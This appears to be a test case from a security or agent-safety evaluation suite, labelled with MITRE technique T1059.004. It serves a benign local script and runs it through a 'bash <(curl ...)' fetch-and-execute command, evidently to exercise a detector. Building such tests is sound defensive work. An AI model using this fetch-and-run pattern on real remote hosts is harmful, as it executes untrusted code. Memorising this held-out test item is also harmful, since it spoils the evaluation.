#!/usr/bin/env bash
# attack: T1059.004 Run a fetched script through process substitution: bash <(curl ...)
# set: unseen
. "$(dirname "$0")/lib/common.sh"
echo 'true' >"$SW/i.sh"
p=$(serve "$SW")
bash -c "bash <(curl -fsSL http://127.0.0.1:$p/i.sh)"
